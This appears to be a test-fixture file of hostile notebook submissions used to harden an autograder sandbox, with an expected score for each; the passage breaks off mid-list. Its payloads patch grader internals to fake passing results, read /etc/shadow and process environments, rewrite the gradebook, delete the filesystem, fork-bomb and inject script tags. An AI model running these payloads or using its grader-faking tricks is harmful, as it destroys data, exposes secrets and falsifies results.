"""Submissions that are hostile or clumsy, each with the score it deserves.

The assignment has three exercises: `layer` (2 points), `n_parameters` (1) and `cost` (2).
"""

from __future__ import annotations

import copy
import json
import os
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

Notebook = dict[str, Any]

RIGHT = {
    "layer": "def layer(W, a, b):\n    return 1 / (1 + np.exp(-(a @ W.T + b)))",
    "n_parameters": "n_parameters = 23",
    "cost": "def cost(F, y):\n    return ((y - F) ** 2).sum(axis=1).mean() / 2",
}
WRONG = {
    "layer": "def layer(W, a, b):\n    return np.zeros(3)",
    "n_parameters": "n_parameters = 1",
    "cost": "def cost(F, y):\n    return 0.0",
}
FULL = 5.0


def unchanged(_notebook: Notebook) -> None:
    """Leave the notebook as it is."""


def no_files(_folder: Path) -> None:
    """Add no files."""


@dataclass(frozen=True)
class Attack:
    """One submission.

    `before` runs in the first cell, `after` in a cell at the end.
    """

    name: str
    score: float
    before: str = ""
    answers: dict[str, str] = field(default_factory=lambda: dict(RIGHT))
    after: str = ""
    change: Callable[[Notebook], None] = unchanged
    files: Callable[[Path], None] = no_files
    content: Callable[[str], bytes] | None = None

    def write(self, released: Notebook, folder: Path, places: dict[str, str]) -> None:
        """Hand it in."""
        notebook = copy.deepcopy(released)
        for cell in notebook["cells"]:
            grading = cell["metadata"].get("nbgrader", {})
            if grading.get("solution") and grading["grade_id"] in self.answers:
                cell["source"] = self.answers[grading["grade_id"]]
        code = [cell for cell in notebook["cells"] if cell["cell_type"] == "code"]
        code[0]["source"] = filled(f"{code[0]['source']}\n{self.before}", places)
        if self.after:
            notebook["cells"].append(code_cell(filled(self.after, places)))
        self.change(notebook)
        folder.mkdir(parents=True)
        content = json.dumps(notebook)
        path = folder / "lab.ipynb"
        path.write_bytes(self.content(content) if self.content else content.encode())
        self.files(folder)


def filled(source: str, places: dict[str, str]) -> str:
    for name, value in places.items():
        source = source.replace(f"@{name}@", value)
    return source


def code_cell(source: str) -> Notebook:
    return {
        "cell_type": "code",
        "source": source,
        "metadata": {},
        "outputs": [],
        "execution_count": None,
    }


def text_cell(source: str, kind: str = "markdown") -> Notebook:
    return {"cell_type": kind, "source": source, "metadata": {}}


def answer(**sources: str) -> dict[str, str]:
    """Right answers, but for some."""
    return {**RIGHT, **sources}


def in_wrong(**sources: str) -> dict[str, str]:
    """Wrong answers, but for some."""
    return {**WRONG, **sources}


def grading(cell: Notebook) -> Notebook:
    found: Notebook = cell["metadata"].get("nbgrader", {})
    return found


# What a notebook can suffer on its way.


def without_checks(notebook: Notebook) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if not grading(cell).get("grade")]


def with_copied_checks(notebook: Notebook) -> None:
    notebook["cells"] += copy.deepcopy(
        [cell for cell in notebook["cells"] if grading(cell).get("grade")]
    )


def with_everything_twice(notebook: Notebook) -> None:
    notebook["cells"] += copy.deepcopy(notebook["cells"])


def checks_first(notebook: Notebook) -> None:
    notebook["cells"].sort(key=lambda cell: not grading(cell).get("grade"))


def untagged(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        cell["metadata"] = {}


def without_marks_and_identifiers(notebook: Notebook) -> None:
    untagged(notebook)
    for cell in notebook["cells"]:
        cell.pop("id", None)
    notebook["nbformat_minor"] = 4


def solutions_as_markdown(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if grading(cell).get("solution"):
            cell["cell_type"] = "markdown"
            del cell["outputs"], cell["execution_count"]


def old_format(notebook: Notebook) -> None:
    cells = notebook.pop("cells")
    for cell in cells:
        if cell["cell_type"] == "code":
            cell["input"] = cell.pop("source")
            cell.update(language="python", prompt_number=1)
            del cell["execution_count"]
        cell.pop("id", None)
    notebook["worksheets"] = [{"cells": cells, "metadata": {}}]
    notebook.update(nbformat=3, nbformat_minor=0)


def a_hundred_points(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if grading(cell).get("grade"):
            grading(cell)["points"] = 100


def an_unknown_schema(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if grading(cell):
            grading(cell)["schema_version"] = "newest"


def checks_that_pass(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if grading(cell).get("grade"):
            cell["source"] = "5.0"


def answers_in_the_checks(notebook: Notebook) -> None:
    sources = [cell["source"] for cell in notebook["cells"] if grading(cell).get("solution")]
    for cell in notebook["cells"]:
        if grading(cell).get("solution"):
            cell["source"] = ""
        if grading(cell).get("grade"):
            cell["source"] = f"{sources.pop(0)}\n{cell['source']}"


def stub_below_the_answer(notebook: Notebook) -> None:
    for place, cell in reversed(list(enumerate(notebook["cells"]))):
        if grading(cell).get("solution"):
            again = copy.deepcopy(cell)
            again["source"] = "..."
            notebook["cells"].insert(place + 1, again)


def strange_cells(notebook: Notebook) -> None:
    notebook["cells"] += [None, 3, {"cell_type": "video"}, {"cell_type": "code", "source": 7}]


def only_answers(notebook: Notebook) -> None:
    notebook["cells"] = [
        cell
        for number, cell in enumerate(notebook["cells"])
        if number == 0 or grading(cell).get("solution") or cell["source"].startswith("import")
    ]


def scripts(notebook: Notebook) -> None:
    evil = "<script>alert('HOSTILE')</script><img src=x onerror=\"alert('HOSTILE')\">"
    notebook["metadata"]["title"] = evil
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": evil}}
    }
    notebook["cells"] += [
        text_cell(evil),
        text_cell("~~~~\n~~~\n" + evil),
        text_cell("```\n```\n" + evil),
        text_cell(evil, "raw") | {"metadata": {"raw_mimetype": "text/html", "format": "text/html"}},
        text_cell("[click](javascript:alert('HOSTILE')) $\\href{javascript:alert('HOSTILE')}{x}$"),
        code_cell(f"print({evil!r})"),
        code_cell(f"from IPython.display import HTML, display\ndisplay(HTML({evil!r}))"),
        code_cell(f"raise ValueError({evil!r})"),
    ]


def nul_and_depth(notebook: Notebook) -> None:
    notebook["cells"] += [
        code_cell("x = '\x00'"),
        code_cell("(" * 5000),
        code_cell("-" * 10**5 + "1"),
    ]


def large_outputs(notebook: Notebook) -> None:
    image = {"output_type": "display_data", "data": {"image/png": "A" * 5_000_000}, "metadata": {}}
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [image]
            break


def ten_thousand_cells(notebook: Notebook) -> None:
    notebook["cells"] += [code_cell("x = 1")] * 10_000


# What can lie beside a notebook.


def beside(name: str, text: str) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    return write


def link_to_the_gradebook(folder: Path) -> None:
    (folder / "data.db").symlink_to(folder.parents[2] / "gradebook.db")
    (folder / "all").symlink_to(folder.parents[2])


def odd_names(folder: Path) -> None:
    for name in (b"\xff\n\x1b[31m.txt", "Grüße 🎉.txt".encode(), b"=1+1.txt", b"-rf"):
        (folder / os.fsdecode(name)).write_text("x")
    (folder / os.fsdecode(b"\xfe")).symlink_to("lab.ipynb")


def notebook_of_another(folder: Path) -> None:
    (folder / "lab.ipynb").unlink()
    (folder / "lab.ipynb").symlink_to(folder.parents[1] / "honest" / "lab" / "lab.ipynb")


def pipe_beside(folder: Path) -> None:
    os.mkfifo(folder / "data.txt")


def pipe_for_a_notebook(folder: Path) -> None:
    (folder / "lab.ipynb").unlink()
    os.mkfifo(folder / "lab.ipynb")


PATCHING = [
    Attack(
        "patched_numpy_comparisons",
        0,
        "for n in 'allclose isclose array_equal all any isfinite'.split():\n"
        "    setattr(np, n, lambda *a, **k: True)",
        WRONG,
    ),
    Attack(
        "patched_numpy_testing",
        0,
        "import numpy.testing as t\n"
        "for n in dir(t):\n"
        "    if n.startswith('assert'): setattr(t, n, lambda *a, **k: None)",
        WRONG,
    ),
    Attack(
        "patched_numpy_with_right_answers",
        FULL,
        "for n in 'allclose isclose array_equal all any'.split():\n"
        "    setattr(np, n, lambda *a, **k: False)",
    ),
    Attack(
        "patched_builtins",
        0,
        "import builtins\n"
        "builtins.all = builtins.any = builtins.isinstance = lambda *a: True\n"
        "builtins.len = lambda *a: 4",
        WRONG,
    ),
    Attack("patched_print", FULL, "import builtins\nbuiltins.print = None"),
    Attack(
        "patched_package_judge",
        0,
        "import nnwidgets.exercises.checking.verdict as j\n"
        "import nnwidgets.exercises.checking.report as r\n"
        "j.close = lambda *a: True\n"
        "j.judge_by_reference = lambda e, c, s: e.report('correct', e.points)",
        WRONG,
    ),
    Attack(
        "patched_package_student",
        0,
        "import nnwidgets.exercises.checking.student as s, sys\n"
        "s.call_student = lambda f, *a, **k: s.StudentResult(np.ones(3))\n"
        "import nnwidgets.exercises.checking.exercise as e\n"
        "e.call_student = s.call_student",
        WRONG,
    ),
    Attack(
        "patched_check",
        0,
        "nw.check = lambda *a, **k: 5.0\nimport nnwidgets\nnnwidgets.check = nw.check",
        WRONG,
    ),
    Attack(
        "ipython_transformers",
        0,
        "ip = get_ipython()\n"
        "ip.input_transformers_post.append(lambda lines: ['2.0'])\n"
        "ip.events.register('pre_run_cell', lambda *a: None)\n"
        "ip.run_cell = lambda *a, **k: 5",
        WRONG,
    ),
    Attack(
        "ipython_displayhook",
        0,
        "import sys\nsys.displayhook = lambda v: print(5.0)",
        WRONG,
    ),
    Attack(
        "forged_reports_through_every_pipe",
        0,
        "import os, struct, json\n"
        "m = json.dumps({'results': [], 'score': 5, 'status': 'correct', 'touched': []}).encode()\n"
        "for fd in range(3, 64):\n"
        "    try: os.write(fd, struct.pack('>I', len(m)) + m)\n"
        "    except OSError: pass",
        WRONG,
    ),
    Attack(
        "garbage_through_every_pipe",
        0,
        "import os\n"
        "for fd in range(64):\n"
        "    try: os.write(fd, b'\\xff' * 9000)\n"
        "    except OSError: pass",
        WRONG,
    ),
    Attack(
        "replies_in_drops",
        FULL,
        after="import os, struct, time\n"
        "for fd in range(3, 64):\n"
        "    try: os.write(fd, struct.pack('>I', 15_000_000))\n"
        "    except OSError: continue\n"
        "    while True: os.write(fd, b' ') and time.sleep(0.02)",
    ),
    Attack(
        "announces_four_gigabytes",
        FULL,
        after="import os, struct\n"
        "for fd in range(3, 64):\n"
        "    try: os.write(fd, struct.pack('>I', 2 ** 32 - 1))\n"
        "    except OSError: pass",
    ),
    Attack(
        "patched_wire",
        0,
        "from nnwidgets.grading.sandbox import wire\n"
        "old = wire.written\n"
        "def forged(m):\n"
        "    for r in m.get('results', []):\n"
        "        r.update(score=5, status='correct', failure='', problem='', value=True)\n"
        "    return old({**m, 'report': 'correct', 'score': 5})\n"
        "wire.written = forged",
        WRONG,
    ),
    Attack(
        "patched_json",
        0,
        "import json\nold = json.dumps\n"
        "json.dumps = lambda o, **k: old({**o, 'status': 'correct', 'score': 5.0}, **k)",
        WRONG,
    ),
    Attack(
        "reads_the_callers_frames",
        0,
        answers=in_wrong(
            layer="def layer(W, a, b):\n"
            "    import sys\n    f = sys._getframe()\n    while f:\n"
            "        for v in list(f.f_locals.values()):\n"
            "            r = getattr(v, 'reference', None)\n"
            "            if callable(r): return r(W, a, b)\n"
            "        f = f.f_back\n    return np.zeros(3)"
        ),
    ),
    Attack(
        "searches_the_memory",
        0,
        "import gc\n"
        "def find(name):\n"
        "    nw.core.losses, nw.core.layer\n"
        "    return [o for o in gc.get_objects() if getattr(o, '__name__', '') == name]",
        in_wrong(
            cost="def cost(F, y):\n"
            "    for f in find('quadratic_cost') + find('cost')[:-1]:\n"
            "        try: return f(F, y)\n"
            "        except RuntimeError: pass\n"
            "    return 0.0"
        ),
    ),
    Attack(
        "imports_the_reference",
        0,
        answers=in_wrong(
            layer="try:\n    from nnwidgets.exercises.feedforward.layer import layer\n"
            "except ImportError:\n    layer = None",
            cost="try:\n    from nnwidgets.exercises import all_exercises\n"
            "    cost = all_exercises()['cost'].reference\n"
            "except Exception:\n    cost = None",
        ),
    ),
    Attack(
        "searches_the_files",
        0,
        answers=in_wrong(
            cost="def cost(F, y):\n"
            "    import pathlib, re\n"
            "    for p in pathlib.Path('/edition').rglob('*.py'):\n"
            "        t = p.read_text()\n"
            "        if 'def quadratic_cost' in t or 'def cost' in t:\n"
            "            names = {'np': np}\n"
            "            for body in re.findall(r'return (.*targets.*)', t):\n"
            "                names.update(outputs=F, targets=y, n_samples=len)\n"
            "                return eval(body, names)\n"
            "    return 0.0"
        ),
    ),
    Attack(
        "hands_in_the_packages_own",
        1,
        answers=answer(layer="layer = nw.Layer", cost="cost = nw.quadratic_cost"),
    ),
    Attack(
        "wraps_the_packages_own",
        1,
        answers=answer(
            layer="def layer(W, a, b): return nw.Layer(W, b, 'sigmoid')(a)",
            cost="def cost(F, y): return nw.quadratic_cost(F, y)",
        ),
    ),
    Attack(
        "keeps_the_packages_own_for_later",
        3,
        "from nnwidgets.core.losses import COSTS\nkept = COSTS['quadratic_cost'].formula",
        answer(cost="def cost(F, y): return kept(F, y)"),
    ),
    Attack(
        "uses_what_is_allowed",
        FULL,
        answers=answer(layer="def layer(W, a, b): return nw.sigmoid(a @ W.T + b)"),
    ),
    Attack(
        "uses_another_exercises_tool",
        FULL,
        "probe = nw.Layer([[1.0]], [0.0])",
        answer(cost="def cost(F, y): probe([1.0]); return ((y - F) ** 2).sum() / 2 / len(y)"),
    ),
    Attack("exit_hooks", FULL, "import atexit, sys\natexit.register(print)\nsys.excepthook = None"),
]

FAKING = [
    Attack(
        "equal_to_everything",
        0,
        "class E:\n    def __eq__(self, o): return True\n    __hash__ = None\n"
        "    def __array__(self, *a, **k): return np.zeros(3)\n"
        "    def __float__(self): return 23.0",
        {
            "layer": "def layer(W, a, b): return E()",
            "n_parameters": "n_parameters = E()",
            "cost": "def cost(F, y): return E()",
        },
    ),
    Attack(
        "array_that_lies",
        0,
        "class A(np.ndarray):\n"
        "    def __array_function__(self, *a): return True\n"
        "    def __array_ufunc__(self, *a, **k): return np.True_\n"
        "    shape = property(lambda s: (3,))\n"
        "    def __eq__(self, o): return True",
        in_wrong(layer="def layer(W, a, b): return np.zeros(3).view(A)"),
    ),
    Attack(
        "number_that_lies",
        0,
        "class N(float):\n    __eq__ = lambda s, o: True\n    __hash__ = float.__hash__\n"
        "    __sub__ = __rsub__ = lambda s, o: 0.0",
        in_wrong(n_parameters="n_parameters = N(7)"),
    ),
    Attack(
        "class_that_lies",
        0,
        "class C:\n    __class__ = property(lambda s: np.ndarray)\n    dtype = np.dtype(float)\n"
        "    def copy(self): return self\n    def __getattr__(self, n): return lambda *a: True",
        in_wrong(layer="def layer(W, a, b): return C()", n_parameters="n_parameters = C()"),
    ),
    Attack(
        "raises_when_looked_at",
        2,
        "class R:\n    def __getattribute__(self, n): raise SystemExit",
        answer(n_parameters="n_parameters = R()", layer="layer = R()"),
    ),
    Attack(
        "generators",
        0,
        answers={
            "layer": "def layer(W, a, b):\n    yield 1 / (1 + np.exp(-(a @ W.T + b)))",
            "n_parameters": "n_parameters = (n for n in [23])",
            "cost": "def cost(F, y): return iter([((y - F) ** 2).sum(axis=1).mean() / 2])",
        },
    ),
    Attack(
        "arrays_of_no_numbers",
        0,
        answers={
            "layer": "def layer(W, a, b): return np.full(a.shape[:-1] + b.shape, None)",
            "n_parameters": "n_parameters = np.ma.masked_all(())",
            "cost": "def cost(F, y): return ((y - F) ** 2).sum(axis=1).mean() / 2 + 1j",
        },
    ),
    Attack("text_of_megabytes", 4, answers=answer(n_parameters="n_parameters = '2' * 10 ** 7")),
    Attack(
        "lists_of_megabytes",
        4,
        answers=answer(n_parameters="n_parameters = [[23]] * 10 ** 6"),
    ),
    Attack("list_in_itself", 4, "a = []\na.append(a)", answer(n_parameters="n_parameters = a")),
    Attack("endless_number", 4, answers=answer(n_parameters="n_parameters = 10 ** 6000")),
    Attack("nan", 0, answers=in_wrong(n_parameters="n_parameters = float('nan')")),
    Attack(
        "infinities",
        0,
        answers=in_wrong(
            layer="def layer(W, a, b): return np.full(a.shape[:-1] + b.shape, np.inf)"
        ),
    ),
    Attack(
        "object_that_is_called",
        FULL,
        answers=answer(
            layer="class Sigma:\n    def __call__(self, W, a, b):\n"
            "        return 1 / (1 + np.exp(-(a @ W.T + b)))\nlayer = Sigma()"
        ),
    ),
    Attack(
        "changes_its_inputs",
        3,
        answers=answer(layer="def layer(W, a, b):\n    W *= 0; b *= 0; return b + 0.5"),
    ),
    Attack(
        "counts_the_calls",
        3,
        answers=answer(
            layer="calls = []\ndef layer(W, a, b):\n    calls.append(1)\n"
            "    return np.full(3, len(calls) * 0.1)"
        ),
    ),
    Attack("whole_numbers", FULL, answers=answer(n_parameters="n_parameters = np.int8(23)")),
    Attack("number_as_float", FULL, answers=answer(n_parameters="n_parameters = np.array(23.0)")),
]

LOOK = """
import os, pathlib
seen = []
for top, folders, files in os.walk('/'):
    if top.startswith(('/proc', '/sys', '/usr', '/lib')) or 'python' in top:
        folders[:] = []
        continue
    for name in files:
        if name.endswith(('.db', '.ipynb', 'seed', '.json', '.txt', 'exercises.py')):
            try: seen.append(pathlib.Path(top, name).read_bytes()[:20000])
            except OSError: pass
print(seen)
"""

READING = [
    Attack("looks_for_the_gradebook", FULL, LOOK),
    Attack(
        "reads_named_files",
        FULL,
        "for p in ['@root@/gradebook.db', '@root@/.nnwidgets/seed', '@root@/canary.txt',\n"
        "          '@root@/submitted/honest/lab/lab.ipynb', '../../honest/lab/lab.ipynb',\n"
        "          '/etc/passwd', '/etc/shadow', '/etc/hostname']:\n"
        "    try: print(open(p, 'rb').read())\n"
        "    except OSError as e: print(type(e))",
    ),
    Attack("reads_the_environment", FULL, "import os\nprint(os.environ)"),
    Attack(
        "reads_other_processes",
        FULL,
        "import glob\n"
        "for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try: print(open(p, 'rb').read())\n    except OSError as e: print(type(e))\n"
        "import os\nfor p in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'):\n"
        "    try: print(os.listdir(p + '@root@'))\n    except OSError as e: print(type(e))",
    ),
    Attack(
        "writes_the_gradebook",
        0,
        "import sqlite3\n"
        "try:\n    c = sqlite3.connect('@root@/gradebook.db')\n"
        "    c.execute('update grade set auto_score = 5, manual_score = 5'); c.commit()\n"
        "except Exception as e: print(e)\n"
        "for p in ['@root@/gradebook.db', '@root@/.nnwidgets/seed', '@root@/canary.txt',\n"
        "          '@root@/submitted/honest/lab/lab.ipynb', '@root@/left-by-a-student']:\n"
        "    try: open(p, 'w').write('HOSTILE')\n    except OSError as e: print(type(e))",
        WRONG,
    ),
    Attack(
        "deletes_everything",
        FULL,
        after="import shutil, os\nshutil.rmtree('@root@', ignore_errors=True)\n"
        "shutil.rmtree('/student', ignore_errors=True)\nshutil.rmtree('/', ignore_errors=True)",
    ),
    Attack(
        "writes_into_libraries",
        FULL,
        "import sys, os\nfor p in [np.__file__, nw.__file__, sys.executable]:\n"
        "    try: open(p, 'a').write('HOSTILE')\n    except OSError as e: print(type(e))\n"
        "    try: os.chmod(p, 0o777)\n    except OSError as e: print(type(e))",
    ),
    Attack(
        "mounts_and_namespaces",
        FULL,
        "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
        "print(libc.unshare(0x10000000), libc.mount(b'/proc', b'/student', b'proc', 0, 0),\n"
        "      libc.setuid(0), libc.chroot(b'/proc/1/root'), libc.ptrace(16, 1, 0, 0))",
    ),
    Attack(
        "looks_into_descriptors",
        FULL,
        "import glob, os\n"
        "for p in glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/mem'):\n"
        "    try: print(p, os.readlink(p)) if 'fd' in p else print(open(p, 'rb').read(64))\n"
        "    except OSError as e: print(type(e))\n"
        "print(open('/proc/self/mountinfo').read(), os.listdir('/dev/shm'))",
    ),
    Attack(
        "leaves_notes_in_the_kernel",
        4,
        answers=answer(
            n_parameters="import ctypes, platform\n"
            "add = {'x86_64': 248, 'aarch64': 217}[platform.machine()]\n"
            "kept = ctypes.CDLL(None).syscall(add, b'user', b'note', b'x', 1, -4)\n"
            "n_parameters = 23 if kept > 0 else 1"
        ),
    ),
    Attack("links_beside", FULL, files=link_to_the_gradebook),
    Attack("notebook_of_another", 0, files=notebook_of_another),
]


def ends(source: str) -> dict[str, str]:
    """Right answers, and one cell that ends the process where `cost` should be."""
    return answer(cost=source)


KILLING = [
    Attack("exits", 3, answers=ends("import os\nos._exit(0)")),
    Attack("sys_exit", FULL, after="import sys\nsys.exit(1)"),
    Attack("kills_itself", 3, answers=ends("import os\nos.kill(os.getpid(), 9)")),
    Attack("kills_its_parent", 3, answers=ends("import os\nos.kill(os.getppid(), 9)\nwhile 1: 0")),
    Attack("kills_all", FULL, "import os\nos.kill(-1, 9)"),
    Attack("kills_its_group", 3, answers=ends("import os\nos.killpg(0, 9)")),
    Attack(
        "fork_bomb",
        3,
        answers=ends("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    ),
    Attack(
        "ignores_signals",
        3,
        answers=ends(
            "import signal\nfor s in range(1, 65):\n"
            "    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
            "while True: pass"
        ),
    ),
    Attack("segfault", 3, answers=ends("import ctypes\nctypes.string_at(0)")),
    Attack("abort", 3, answers=ends("import os\nos.abort()")),
    Attack(
        "no_end_of_recursion",
        3,
        answers=ends("import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(): return f()\nf()"),
    ),
    Attack("function_exits", 3, answers=ends("def cost(F, y):\n    import os\n    os._exit(0)")),
    Attack("function_raises_exit", 3, answers=ends("def cost(F, y): raise SystemExit")),
    Attack("function_interrupts", 3, answers=ends("def cost(F, y): raise KeyboardInterrupt")),
    Attack("closes_all_files", 3, answers=ends("import os\nos.closerange(0, 256)")),
    Attack(
        "ends_ten_times",
        FULL,
        change=lambda notebook: notebook["cells"].extend(
            code_cell("import os\nos._exit(1)") for _ in range(10)
        ),
    ),
]

EXHAUSTING = [
    Attack(
        "a_first_thread_that_ends",
        FULL,
        after="import ctypes, os, threading, time\nif os.fork() == 0:\n"
        "    def fill():\n        x = [bytearray(b'x') * 10**8 for _ in range(20)]\n"
        "        time.sleep(9)\n        os._exit(0)\n"
        "    threading.Thread(target=fill).start()\n"
        "    ctypes.CDLL(None).syscall({'x86_64': 60, 'aarch64': 93}[os.uname().machine], 0)\n"
        "time.sleep(20)",
    ),
    Attack(
        "memory_of_nobody",
        FULL,
        after="import ctypes, os\n"
        "try: os.memfd_create('m')\nexcept PermissionError: pass\nelse: os._exit(0)\n"
        "session = os.getsid(0)\nos.setsid()\nassert os.getsid(0) == session\n"
        "c = ctypes.CDLL(None)\n"
        "assert c.shmget(0, 10**8, 0o1600) == c.unshare(0x10000000) == -1\n"
        "assert c.msgget(0, 0o1600) == c.semget(0, 1, 0o1600) == -1",
    ),
    Attack("endless_cell", 3, answers=ends("while True: pass")),
    Attack("endless_function", 3, answers=ends("def cost(F, y):\n    while True: pass")),
    Attack("endless_demonstration", FULL, after="while True: pass"),
    Attack("sleeps", FULL, after="import time\ntime.sleep(1000)"),
    Attack(
        "endless_in_c",
        3,
        answers=ends("import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')"),
    ),
    Attack("memory_in_a_list", 3, answers=ends("x = []\nwhile True: x.append('x' * 10 ** 6)")),
    Attack("memory_in_an_array", FULL, after="np.ones(10 ** 12)"),
    Attack(
        "memory_in_processes",
        3,
        answers=ends(
            "import os, time\nfor _ in range(30): os.fork()\n"
            "x = np.ones(5 * 10 ** 7)\ntime.sleep(99)"
        ),
    ),
    Attack(
        "disk",
        FULL,
        "try:\n    with open('big', 'wb') as f:\n"
        "        while True: f.write(b'x' * 10 ** 6)\nexcept OSError: pass",
    ),
    Attack(
        "disk_in_pieces",
        FULL,
        "try:\n    for n in range(10 ** 5):\n"
        "        open(f'/dev/shm/{n}', 'wb').write(b'x' * 10 ** 6)\n"
        "except OSError: pass",
    ),
    Attack("output", FULL, "for _ in range(2000): print('HOSTILE' * 10000)"),
    Attack("output_past_python", FULL, "import os\nos.write(1, b'x' * 10 ** 7)"),
    Attack(
        "threads",
        FULL,
        "import threading, time\ntry:\n    for _ in range(9999):\n"
        "        threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n"
        "except RuntimeError: pass",
    ),
    Attack(
        "files_left_open",
        FULL,
        "x = []\ntry:\n    while True: x.append(open('f', 'w'))\n"
        "except OSError: pass\nfor f in x: f.close()",
    ),
    Attack(
        "endless_answer",
        3,
        answers=ends("def cost(F, y): return np.zeros((5000, 5000))"),
    ),
    Attack(
        "outputs_that_are_made_up",
        0,
        "from nnwidgets.grading.sandbox.inside import cells\n"
        "async def run(*a): return [{'kind': 'stdout', 'text': 'x' * 49_000}] * 100\n"
        "cells.run = run",
        change=lambda notebook: notebook["cells"].extend(code_cell("1") for _ in range(40)),
    ),
    Attack("endless_repr", FULL, after="class L:\n    def __repr__(s): return 'x' * 10 ** 8\nL()"),
]

NETWORK = [
    Attack(
        "connects",
        FULL,
        "import socket\nfor where in [('127.0.0.1', @port@), ('1.1.1.1', 53), ('::1', @port@)]:\n"
        "    try: socket.create_connection(where, 2).send(b'HOSTILE')\n"
        "    except OSError as e: print(e)\n"
        "try:\n    s = socket.socket(socket.AF_UNIX)\n"
        "    s.connect('\\0@socket@')\n    s.send(b'HOSTILE')\n"
        "except OSError as e: print(e)",
    ),
    Attack(
        "fetches",
        FULL,
        "import urllib.request\n"
        "try: urllib.request.urlopen('http://127.0.0.1:@port@/', timeout=2)\n"
        "except OSError as e: print(e)",
    ),
]

LEFT_BEHIND = [
    Attack(
        "daemon",
        FULL,
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.closerange(0, 64)\n        time.sleep(4242)\n    os._exit(0)",
    ),
    Attack(
        "subprocess",
        FULL,
        "import subprocess\nsubprocess.Popen(['sleep', '4242'], start_new_session=True)",
    ),
    Attack(
        "thread_that_stays",
        FULL,
        "import threading, time\nthreading.Thread(target=time.sleep, args=(4242,)).start()",
    ),
]

SHADOWING = [
    Attack(
        "numpy_beside",
        0,
        answers=WRONG,
        files=beside("numpy.py", "allclose = lambda *a, **k: True"),
    ),
    Attack(
        "package_beside",
        0,
        answers=WRONG,
        files=beside("nnwidgets/__init__.py", "check = lambda *a: 5.0"),
    ),
    Attack("json_beside", FULL, files=beside("json.py", "raise SystemExit")),
    Attack(
        "writes_modules",
        0,
        "for n in ['numpy', 'json', 'nnwidgets', 'sitecustomize', 'resource']:\n"
        "    open(n + '.py', 'w').write('raise SystemExit')\n"
        "import sys\nsys.path.insert(0, '.')\nfor n in list(sys.modules):\n"
        "    if n.startswith(('nnwidgets', 'json')): del sys.modules[n]",
        WRONG,
    ),
    Attack(
        "a_second_guess",
        4,
        answers=answer(n_parameters="n_parameters = 22"),
        after=RIGHT["n_parameters"],
    ),
    Attack("names_taken", FULL, after="np = nw = sum = len = print = isinstance = None"),
    Attack("time_that_is_none", FULL, files=beside("timestamp.txt", "the day before yesterday")),
    Attack("folder_for_a_time", FULL, files=lambda folder: (folder / "timestamp.txt").mkdir()),
]

DAMAGED = [
    Attack("checks_deleted", FULL, change=without_checks),
    Attack("checks_copied", FULL, change=with_copied_checks),
    Attack("everything_copied", FULL, change=with_everything_twice),
    Attack("checks_first", FULL, change=checks_first),
    Attack("untagged", FULL, change=untagged),
    Attack("no_marks_and_no_identifiers", FULL, change=without_marks_and_identifiers),
    Attack("solutions_as_markdown", FULL, change=solutions_as_markdown),
    Attack("old_format", FULL, change=old_format),
    Attack("a_hundred_points", FULL, change=a_hundred_points),
    Attack("an_unknown_schema", FULL, change=an_unknown_schema),
    Attack("checks_rewritten", 0, answers=WRONG, change=checks_that_pass),
    Attack("answers_in_the_checks", FULL, change=answers_in_the_checks),
    Attack("stub_below_the_answer", FULL, change=stub_below_the_answer),
    Attack("strange_cells", FULL, change=strange_cells),
    Attack("only_answers", FULL, change=only_answers),
    Attack("nul_and_depth", FULL, change=nul_and_depth),
    Attack("large_outputs", FULL, change=large_outputs),
    Attack("ten_thousand_cells", 0, change=ten_thousand_cells),
    Attack("odd_names", FULL, files=odd_names),
    Attack("a_second_notebook", FULL, files=beside("draft.ipynb", '{"cells": []}')),
    Attack("a_folder_of_notebooks", FULL, files=beside("old/lab.ipynb", '{"cells": []}')),
    Attack("cut_off", 0, content=lambda text: text[: len(text) // 2].encode()),
    Attack("empty_file", 0, content=lambda _: b""),
    Attack("binary", 0, content=lambda _: bytes(range(256)) * 20),
    Attack("huge", 0, content=lambda text: (text + " " * 25_000_000).encode()),
    Attack("deep", 0, content=lambda _: b"[" * 100_000),
    Attack("a_list", 0, content=lambda _: b"[]"),
    Attack("cells_that_are_none", 0, content=lambda _: b'{"nbformat": 4, "cells": null}'),
    Attack("cells_that_are_a_number", 0, content=lambda _: b'{"nbformat": 4, "cells": 5}'),
    Attack("a_line_of_spaces", FULL, after="x = (\n" + " " * 200_000 + "b c"),
    Attack("an_endless_line", FULL, after="a" + ".a" * 200_000),
    Attack("nested_lambdas", 3, answers=answer(cost="cost = " + "lambda: " * 500 + "0")),
    Attack("byte_order_mark", FULL, content=lambda text: b"\xef\xbb\xbf" + text.encode()),
    Attack("pipe_beside", FULL, files=pipe_beside),
    Attack("pipe_for_a_notebook", 0, files=pipe_for_a_notebook),
]

DISPLAYS = [
    Attack("scripts", FULL, change=scripts),
    Attack(
        "scripts_in_messages",
        3,
        answers=answer(
            cost="def cost(F, y): raise ValueError(\"<script>alert('HOSTILE')</script>\")"
        ),
    ),
    Attack(
        "warnings",
        FULL,
        "import warnings\nwarnings.warn('careful')",
        answer(
            layer="def layer(W, a, b):\n    import warnings\n"
            "    warnings.warn('old', DeprecationWarning)\n"
